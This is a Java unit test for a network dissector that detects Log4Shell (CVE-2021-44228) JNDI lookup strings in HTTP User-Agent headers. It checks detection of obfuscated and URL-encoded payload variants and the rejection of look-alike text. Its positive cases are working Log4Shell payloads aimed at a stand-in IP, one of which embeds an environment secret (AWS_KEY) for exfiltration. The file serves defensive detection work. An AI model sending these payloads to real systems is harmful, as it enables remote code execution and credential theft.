package io.otus.dissect.http;

import static org.assertj.core.api.Assertions.assertThat;

import io.otus.core.bytes.ByteView;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Forms in which the lookup of CVE-2021-44228 was sent, and what looks like them. */
class LoggedLookupTest {
    private static int find(String said) {
        String request = "GET /a HTTP/1.1\r\nHost: plc1\r\nUser-Agent: " + said + "\r\n\r\n";
        return LoggedLookup.find(ByteView.of(request.getBytes(StandardCharsets.UTF_8)));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${jndi:ldap://203.0.113.5:1389/a}",
                "x ${JNDI:rmi://203.0.113.5/a} y",
                "${${lower:j}ndi:ldap://203.0.113.5/a}",
                "${${upper:j}${lower:N}di:dns://203.0.113.5}",
                "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://203.0.113.5/a}",
                "${j${env:NOBODY:-n}di:ldap://203.0.113.5/${env:AWS_KEY}}",
                "${${lower:${lower:jn}}di:ldap://203.0.113.5/a}",
                "${j${date:'n'}di:ldap://203.0.113.5/a}",
                "%24%7Bjndi:ldap://203.0.113.5/a%7D",
                "$%7Bjndi%3Aldap://203.0.113.5/a}",
                "%2524%257bjndi:ldap://203.0.113.5/a%257d"
            })
    void aLookupIsFoundHoweverItIsWritten(String said) {
        assertThat(find(said)).isPositive();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${date:yyyy-MM-dd}",
                "${name} and jndi:ldap",
                "${jndi:ldap://203.0.113.5",
                "$ {jndi:ldap://203.0.113.5}",
                "${a\r\nX: jndi:b}",
                "costs $5 and 20% of {jndi:a}",
                "%24%7Bname%7D"
            })
    void otherTextIsNone(String said) {
        assertThat(find(said)).isEqualTo(-1);
    }

    @Test
    void itsDepthHasABound() {
        assertThat(find("${".repeat(5_000) + "}".repeat(5_000))).isEqualTo(-1);
    }
}
